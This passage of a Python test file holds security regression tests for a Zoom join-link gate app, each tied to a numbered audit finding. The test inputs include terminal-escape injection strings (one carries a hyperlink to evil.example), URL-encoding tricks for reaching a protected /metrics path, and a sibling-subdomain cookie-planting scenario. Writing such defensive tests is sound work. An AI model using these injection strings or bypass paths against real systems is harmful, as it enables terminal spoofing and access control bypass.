    again = service.meetings.issue_links(meeting, [RegistrantInput(email, "Ana")])[0]
    assert again.created is False and again.registrant_id == rid        # the same registrant
    assert Signer(new_key).read_link_token(again.url.rsplit("/", 1)[1]).registrant_id == rid
    assert rotated.test_client().post(path_of(first)).status_code == 303     # old link works
    assert link_status(service, meeting, email)["claims"] == 1
    retired = make_app(store_url, clock, like=app, SECRET_KEY=new_key).extensions["joingate"]
    assert retired.meetings.registrant_id(email) == rid   # even with the first key gone entirely

    joined = participant("joined", user_id="c1", name="Somebody", at="2026-12-01T18:01:00Z",
                         customer_key=rid)
    assert deliver(rotated.test_client(), clock, joined).get_json() == {"status": "recorded"}
    assert service.presence.report(meeting)["registrants"][0]["joins"] == 1   # customer_key matches

    other = make_app(store_url, clock, like=app, KEY_PREFIX="other").extensions["joingate"]
    assert other.meetings.registrant_id(email) != rid        # another store: another id key


# Finding 15: a weak SECRET_KEY was accepted (`x`, `changeme`).

@pytest.mark.parametrize("variable,value", [
    ("SECRET_KEY", "changeme"), ("SECRET_KEY", "x" * 31), ("SECRET_KEY_FALLBACKS", "changeme"),
    ("SECRET_KEY_FALLBACKS", f"{'y' * 40},short-old-key"),
], ids=["changeme", "31-characters", "fallback-changeme", "one-short-fallback"])
def test_finding_15_keys_shorter_than_32_characters_stop_the_start(variable, value, monkeypatch):
    environ = {"JOINGATE_SECRET_KEY": SECRET, "JOINGATE_REDIS_URL": "memory://",
               f"JOINGATE_{variable}": value}
    with pytest.raises(ConfigError) as caught:
        create_app(environ=environ)
    message = str(caught.value)
    assert f"JOINGATE_{variable} " in message and "32 characters" in message
    assert "changeme" not in message and "short-old-key" not in message   # never echoed
    for name, raw in environ.items():                  # the command line says the same
        monkeypatch.setenv(name, raw)
    result = CliRunner().invoke(cli_main, ["report", "85746065432"])
    assert result.exit_code == 1 and f"JOINGATE_{variable} " in result.output


def test_finding_15_a_key_of_32_characters_starts():
    app = create_app(environ={"JOINGATE_SECRET_KEY": "k" * 32, "JOINGATE_REDIS_URL": "memory://"})
    assert app.config["JOINGATE"]["SECRET_KEY"] == "k" * 32


# Finding 16: participant names with terminal escapes reached `joingate report` on a terminal.

ESCAPED_NAME = "\x1b[2J\x1b]0;owned\x07Eve\x1b[31m Lima\x9b0m\x1b[0m"
TERMINAL_CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def test_finding_16_names_lose_terminal_escapes_on_the_way_in(app, clock, meeting, tmp_path):
    client = app.test_client()
    joined = participant("joined", user_id="u1", name=ESCAPED_NAME, at="2026-12-01T18:01:00Z")
    assert deliver(client, clock, joined).get_json() == {"status": "recorded"}
    registration = sample("registration_created")
    registration["payload"]["object"]["registrant"].update(
        first_name="\x1b[1mAna\x1b[0m", last_name="Li\x07ma\x1b]8;;http://evil.example\x1b\\")
    assert deliver(client, clock, registration).get_json() == {"status": "recorded"}
    roster = tmp_path / "people.csv"
    roster.write_text("email,name\nben@example.org,\"Ben\x1b[8m Okafor\"\n", encoding="utf-8")
    cli = CliRunner()
    issued = cli.invoke(cli_main, ["links", "issue", meeting, str(roster)], obj=app)
    assert issued.exit_code == 0, issued.output
    outputs = [cli.invoke(cli_main, args, obj=app).output for args in (
        ["report", meeting], ["report", meeting, "--format", "json"],
        ["links", "show", meeting, "ana.lima@example.org"],
        ["links", "show", meeting, "ben@example.org"], ["links", "export", meeting])]
    for output in outputs:
        assert not TERMINAL_CONTROLS.search(output), repr(output)
    unmatched = app.extensions["joingate"].presence.report(meeting)["unmatched"]
    assert [row["user_name"] for row in unmatched] == ["Eve Lima"]            # still readable
    assert "Ana Lima" in outputs[2] and "Ben Okafor" in outputs[3]


def test_finding_16_an_email_with_control_characters_is_refused(app, clock, meeting):
    registration = sample("registration_created")
    registration["payload"]["object"]["registrant"]["email"] = "ana\x1b[2J@example.org"
    assert deliver(app.test_client(), clock, registration).status_code == 400
    with pytest.raises(InvalidInput) as caught:
        read_csv("email,name\n\"ana\x1b[2J@example.org\",Ana\n", "zoom.us")
    assert caught.value.details[0]["line"] == 2 and caught.value.details[0]["field"] == "email"
    assert "\x1b" not in caught.value.details[0]["message"]


# Finding 17: a chunked body over MAX_BODY_BYTES was cut to the limit without a word.

def chunked(data: bytes, size: int = 4096):
    """A request body that requests sends with Transfer-Encoding: chunked (no length)."""
    for start in range(0, len(data), size):
        yield data[start:start + size]


def send_chunked_bodies(base: str, token_path: str, now: int) -> dict[str, int]:
    """Oversized chunked bodies to each route that takes a body, and one small signed webhook
    that must still be read whole."""
    big = b'{"pad": "' + b"x" * 20_000 + b'"}'
    raw, headers = signed(big, now)
    statuses = {
        "webhook": requests.post(base + "/webhooks/zoom", data=chunked(raw), headers=headers,
                                 timeout=10).status_code,
        "api": requests.post(base + "/api/v1/meetings", data=chunked(big), timeout=10,
                             headers={"Authorization": "Bearer organizer-token",
                                      "Content-Type": "application/json"}).status_code,
        "claim": requests.post(base + token_path, data=chunked(big), timeout=10,
                               allow_redirects=False).status_code}
    small, headers = signed(participant("joined", user_id="c1", name="Chunk",
                                        at="2026-12-01T18:01:00Z"), now)
    answer = requests.post(base + "/webhooks/zoom", data=chunked(small, 50), headers=headers,
                           timeout=10)
    statuses["small_webhook"] = answer.status_code
    return statuses


EXPECTED_CHUNKED = {"webhook": 413, "api": 413, "claim": 413, "small_webhook": 200}


def test_finding_17_chunked_bodies_over_the_limit_get_413_on_werkzeug(clock):
    app = make_app("memory://", clock, MAX_BODY_BYTES=10_000, ADMIN_TOKEN="organizer-token")
    service = app.extensions["joingate"]
    service.meetings.add(MEETING_ID, topic="Chunks", start=START, duration=90)
    issued = service.meetings.issue_links(
        MEETING_ID, [RegistrantInput("ana@example.org", "Ana")])[0]
    server = make_server("127.0.0.1", 0, app, threaded=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        statuses = send_chunked_bodies(f"http://127.0.0.1:{server.server_port}",
                                       path_of(issued), int(clock()))
    finally:
        server.shutdown()
    assert statuses == EXPECTED_CHUNKED


def test_finding_17_chunked_bodies_over_the_limit_get_413_on_gunicorn(redis_server):
    redis_lib.Redis.from_url(redis_server.url).flushdb()
    env = gunicorn_env(redis_server.url, secret=SECRET, JOINGATE_MAX_BODY_BYTES="10000",
                       JOINGATE_ADMIN_TOKEN="organizer-token",
                       JOINGATE_ZOOM_WEBHOOK_SECRET="zoom-secret-token")
    app = create_app(environ=env)
    service = app.extensions["joingate"]
    service.meetings.add(MEETING_ID, topic="Chunks", start=int(time.time()), duration=90)
    issued = service.meetings.issue_links(
        MEETING_ID, [RegistrantInput("ana@example.org", "Ana")])[0]
    process, port = start_gunicorn(env, workers=1)
    try:
        statuses = send_chunked_bodies(f"http://127.0.0.1:{port}", path_of(issued),
                                       int(time.time()))
    finally:
        stop(process)
    assert statuses == EXPECTED_CHUNKED


# Finding 19: from reading; verified, then fixed or documented.

METRICS_DISGUISES = ["/metrics", "//metrics", "///metrics", "/%2Fmetrics", "/%6Detrics",
                     "/metrics?x=1", "/./metrics", "/j/../metrics", "/metrics/", "//metrics/",
                     "/%2e/metrics", "/METRICS", "/metrics%3F"]


def raw_get(port: int, target: str, cafile: str) -> tuple[int, bytes]:
    """GET ``target`` exactly as written (no client normalises it) over TLS."""
    context = ssl.create_default_context(cafile=cafile)
    with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
        with context.wrap_socket(sock, server_hostname="127.0.0.1") as tls:
            tls.sendall(f"GET {target} HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                        "Connection: close\r\n\r\n".encode())
            data = b""
            while chunk := tls.recv(65536):
                data += chunk
    return int(data.split(b" ", 2)[1]), data


def test_finding_19_metrics_stay_behind_the_shipped_nginx_site(redis_server, tmp_path):
    redis_lib.Redis.from_url(redis_server.url).flushdb()
    app_port, http_port, https_port = free_port(), free_port(), free_port()
    env = gunicorn_env(redis_server.url, secret=SECRET, JOINGATE_PROXY_HOPS="1",
                       JOINGATE_BIND=f"127.0.0.1:{app_port}", JOINGATE_WORKERS="1",
                       PROMETHEUS_MULTIPROC_DIR=str(tmp_path / "metrics"))
    gunicorn = subprocess.Popen([sys.executable, "-m", "gunicorn", "-c", "gunicorn.conf.py",
                                 "wsgi:app"], cwd=ROOT, env=env, stdout=subprocess.DEVNULL,
                                stderr=subprocess.DEVNULL)
    nginx = subprocess.Popen([nginx_binary(), "-c", str(write_nginx(tmp_path, http_port,
                                                                    https_port, app_port)),
                              "-p", str(tmp_path), "-g", "daemon off;"],
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        wait_for_port(app_port, 30)
        wait_for_port(https_port, 10)
        direct = requests.get(f"http://127.0.0.1:{app_port}/metrics", timeout=10)
        assert direct.status_code == 200 and "# HELP joingate_" in direct.text
        answers = {target: raw_get(https_port, target, str(tmp_path / "fullchain.pem"))
                   for target in METRICS_DISGUISES}
    finally:
        stop(nginx)
        stop(gunicorn)
    for target, (status, body) in answers.items():
        assert status in (400, 403, 404), (target, status)
        assert b"# HELP joingate_" not in body and b"joingate_" not in body, target


def test_finding_19_the_device_cookie_cannot_be_planted_by_a_sibling(app, service, meeting):
    """A sibling subdomain can set a cookie for the gate's host unless the name starts with
    __Host-: an attacker plants their own (validly signed) device id before the victim claims,
    the victim's link binds to the attacker's device, and the attacker's browser is then the
    bound device of the victim's link."""
    victim_link, own_link = service.meetings.issue_links(meeting, [
        RegistrantInput("ana@example.org", "Ana"), RegistrantInput("mal@example.org", "Mal")])
    attacker = app.test_client()
    claimed = attacker.post(path_of(own_link))
    set_cookie = claimed.headers["Set-Cookie"]
    name, _, rest = set_cookie.partition("=")
    assert name == "__Host-jg_device"
    attributes = [part.strip().lower() for part in rest.split(";")[1:]]
    assert "secure" in attributes and "path=/" in attributes and "httponly" in attributes
    assert not any(part.startswith("domain") for part in attributes)
    attacker_device = rest.split(";")[0]
    victim = app.test_client()
    victim.set_cookie("jg_device", attacker_device, path="/j/")    # what a sibling can plant
    assert victim.post(path_of(victim_link)).status_code == 303
    assert attacker.post(path_of(victim_link)).status_code == 409  # not the bound device
    assert victim.post(path_of(victim_link)).status_code == 303    # the victim is


def test_finding_19_over_http_the_cookie_keeps_its_plain_name(app, store_url, clock, link):
    plain = make_app(store_url, clock, like=app, PUBLIC_URL="http://127.0.0.1:8000")
    client = plain.test_client()
    set_cookie = client.post(path_of(link)).headers["Set-Cookie"]
    assert set_cookie.startswith("jg_device=") and "Secure" not in set_cookie
    assert "Path=/j/" in set_cookie
    assert client.post(path_of(link)).status_code == 303              # and it still rejoins


@pytest.mark.parametrize("url,secret,warnings", [
    ("http://alerts.example/hook/s3cret", "", ["unsigned", "plain http"]),
    ("https://alerts.example/hook/s3cret", "", ["unsigned"]),
    ("http://alerts.example/hook/s3cret", "alert-secret", ["plain http"]),
    ("https://alerts.example/hook/s3cret", "alert-secret", []),
    ("", "", []),
], ids=["http-unsigned", "unsigned", "http", "signed-https", "no-alerts"])
def test_finding_19_the_worker_warns_about_unsigned_or_plain_http_alerts(app, store_url, clock,
                                                                         caplog, url, secret,
                                                                         warnings):
    alerting = make_app(store_url, clock, like=app, ALERT_WEBHOOK_URL=url, ALERT_SECRET=secret)
    stopped = threading.Event()
    stopped.set()
    Worker(alerting.extensions["joingate"]).run(stopped)
    said = [record.getMessage() for record in caplog.records
            if record.name == "joingate.worker" and record.levelname == "WARNING"]
    for warning in warnings:
        assert any(warning in message for message in said), (warning, said)
    assert len(said) == len(warnings)
    assert not any("s3cret" in message for message in said)
